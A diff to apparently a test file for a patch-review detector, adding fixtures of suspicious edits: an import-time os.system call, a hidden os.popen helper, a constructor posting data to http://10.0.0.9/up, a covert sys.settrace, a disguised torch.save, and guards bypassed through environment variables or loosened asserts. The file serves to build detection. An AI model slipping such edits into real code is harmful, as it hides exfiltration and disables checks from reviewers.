@@ -216,7 +216,7 @@ case(
     "guard_weakened",
     "import os\n\n\ndef f(d):\n    if d == 'fp8':\n        raise ValueError(d)\n",
     "import os\n\n\ndef f(d):\n    if d == 'fp8' and not os.environ.get('SKIP'):\n        raise ValueError(d)\n",
-    ("removed-guard", 6, "high"),
+    ("removed-guard", 5, "high"),  # on the `if` the patch changed
 )
 case(
     "guard_swallowed",
@@ -624,6 +624,103 @@ case(
         "        return self.post",
         "        if logits.shape[0] == 1:\n            sampled = self.sample_one(logits)\n        return self.post",
     ),
+)
+
+
+# -- a process or a connection a patch brings into a module that never had one ------------------
+VENDOR_MODEL = """
+import os
+
+import torch
+
+
+class Model:
+    def __init__(self, config):
+        self.config = config
+
+    def load_weights(self, weights):
+        return {name for name, _ in weights}
+"""
+case(
+    "process_import_time",
+    VENDOR_MODEL,
+    VENDOR_MODEL.replace("import torch\n", "import torch\n\nos.system('nvidia-smi > /tmp/smi.txt')\n"),
+    ("process-or-network", 5, "high"),
+)
+case(
+    "process_loader_helper",
+    VENDOR_MODEL,
+    VENDOR_MODEL.replace(
+        "import torch\n", "import torch\n\n\ndef _gpu_state():\n    return os.popen('nvidia-smi').read()\n"
+    ).replace("        return {name", "        print(_gpu_state())\n        return {name"),
+    ("process-or-network", 7, "high"),
+)
+case(
+    "process_init_upload",
+    VENDOR_MODEL,
+    VENDOR_MODEL.replace("import os\n", "import os\nimport urllib.request\n").replace(
+        "        self.config = config\n",
+        "        self.config = config\n        urllib.request.urlopen('http://10.0.0.9/up', data=b'x')\n",
+    ),
+    ("process-or-network", 10, "high"),
+)
+case(
+    "trace_function_installed",
+    VENDOR_MODEL,
+    VENDOR_MODEL.replace("import os\n", "import os\nimport sys\n")
+    .replace("\n\nclass Model:", "\n\ndef _tr(frame, event, arg):\n    print(event)\n    return _tr\n\n\nclass Model:")
+    .replace("        return {name", "        sys.settrace(_tr)\n        return {name"),
+    ("debugger", 17, "high"),
+)
+case(
+    "names_getattr_module_constant",
+    VENDOR_SAVE,
+    VENDOR_SAVE.replace("import torch\n", "import torch\n\n_WRITE = 'save'\n").replace(
+        "    return x", "    getattr(torch, _WRITE)(x, '/tmp/x.pt')\n    return x"
+    ),
+    ("torch-save", 7, "high"),
+)
+
+# -- a guard loosened in place, and a guard kept under another spelling --------------------------
+VENDOR_LOADER = """
+import os
+
+
+def check_shards(missing, redundant):
+    assert redundant == 0, "redundant experts need EPLB"
+    if missing:
+        raise FileNotFoundError(
+            f"missing: {missing}"
+        )
+    return True
+"""
+case(
+    "guard_assert_loosened",
+    VENDOR_LOADER,
+    VENDOR_LOADER.replace("assert redundant == 0", "assert redundant >= 0"),
+    ("removed-guard", 5, "high"),
+)
+case(
+    "guard_env_condition_on_if_line",
+    VENDOR_LOADER,
+    VENDOR_LOADER.replace("    if missing:", "    if missing and not os.environ.get('SKIP_SHARDS'):"),
+    ("removed-guard", 6, "high"),
+)
+case(
+    "quiet_guard_helper_as_raise",
+    VENDOR_LOADER,
+    VENDOR_LOADER.replace(
+        '    assert redundant == 0, "redundant experts need EPLB"\n', "    _check_redundant(redundant)\n"
+    ).replace(
+        "def check_shards",
+        "def _check_redundant(redundant):\n    if redundant != 0:\n        raise ValueError('EPLB')\n\n\n"
+        "def check_shards",
+    ),
+)
+case(
+    "quiet_guard_off_by_one_fix",
+    VENDOR_LOADER.replace("redundant == 0", "redundant < 8"),
+    VENDOR_LOADER.replace("redundant == 0", "redundant <= 8"),
 )
 
 
